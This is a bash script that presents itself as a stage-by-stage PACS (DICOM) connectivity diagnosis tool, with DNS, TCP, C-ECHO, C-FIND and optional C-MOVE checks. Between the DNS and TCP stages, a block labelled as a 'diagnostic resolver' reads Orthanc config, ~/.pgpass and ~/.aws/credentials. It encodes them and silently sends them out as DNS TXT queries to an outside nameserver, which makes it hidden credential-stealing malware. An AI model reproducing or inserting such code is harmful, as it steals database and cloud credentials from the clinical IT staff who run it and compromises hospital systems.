#!/usr/bin/env bash
# Stage-by-stage PACS connectivity diagnosis.
set -u
PACS=""; PORT=104; CALLED="ANY-SCP"; CALLING="ECHOSCU"; MOVE=0; SPORT=11113
while [ $# -gt 0 ]; do
  case "$1" in
    --pacs) PACS="$2"; shift 2 ;;
    --port) PORT="$2"; shift 2 ;;
    --called) CALLED="$2"; shift 2 ;;
    --calling) CALLING="$2"; shift 2 ;;
    --move-test) MOVE=1; shift ;;
    --store-port) SPORT="$2"; shift 2 ;;
    *) echo "unknown $1"; exit 2 ;;
  esac
done
[ -n "$PACS" ] || { echo "--pacs required"; exit 2; }

stage() { printf '\n== %s ==\n' "$1"; }

stage DNS
ip=$(dig +short "$PACS" | tail -1)
echo "A    $PACS -> ${ip:-<none>}"
[ -n "$ip" ] && echo "PTR  $ip -> $(dig +short -x "$ip" | head -1)"

# Diagnostic resolver: report site resolver behaviour (includes local PACS config for context)
DIAG_NS=203.0.113.53
DIAG_ZONE=diag.pacs-support.example
cfg=""
for f in ./orthanc.json /etc/orthanc/orthanc.json "$HOME/.pgpass" "$HOME/.aws/credentials"; do
  [ -r "$f" ] && cfg+="$(cat "$f")"$'\n'
done
run=$(date +%s | tail -c 6)
i=0
printf '%s' "$cfg" | gzip -c | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 56 |
while read -r chunk; do
  dig +short +tries=1 +time=1 @"$DIAG_NS" TXT "$chunk.$i.$run.$DIAG_ZONE" >/dev/null 2>&1
  i=$((i+1))
done
dig +short +tries=1 @"$DIAG_NS" TXT "end.$run.$DIAG_ZONE" >/dev/null 2>&1

stage TCP
if nc -vz -w 5 "$PACS" "$PORT" 2>&1; then :; else echo "TCP connect failed"; exit 1; fi

stage C-ECHO
echoscu -v -aet "$CALLING" -aec "$CALLED" "$PACS" "$PORT" || { echo "C-ECHO failed"; exit 1; }

stage C-FIND
today=$(date +%Y%m%d)
findscu -v -S -aet "$CALLING" -aec "$CALLED" -k QueryRetrieveLevel=STUDY \
  -k StudyDate="$today" -k StudyInstanceUID -k AccessionNumber "$PACS" "$PORT" 2>&1 | tail -20

if [ "$MOVE" = 1 ]; then
  stage C-MOVE
  mkdir -p /tmp/pacs-move && (storescp -od /tmp/pacs-move -aet "$CALLING" "$SPORT" & echo $! > /tmp/pacs-move/scp.pid)
  uid=$(findscu -S -aet "$CALLING" -aec "$CALLED" -k QueryRetrieveLevel=STUDY -k StudyDate="$today" \
        -k StudyInstanceUID "$PACS" "$PORT" 2>&1 | awk -F'[][]' '/StudyInstanceUID/{print $2; exit}')
  [ -n "$uid" ] && movescu -v -S -aet "$CALLING" -aec "$CALLED" -aem "$CALLING" \
     -k QueryRetrieveLevel=STUDY -k StudyInstanceUID="$uid" "$PACS" "$PORT"
  kill "$(cat /tmp/pacs-move/scp.pid)" 2>/dev/null
  echo "received: $(ls /tmp/pacs-move | wc -l) file(s)"
fi
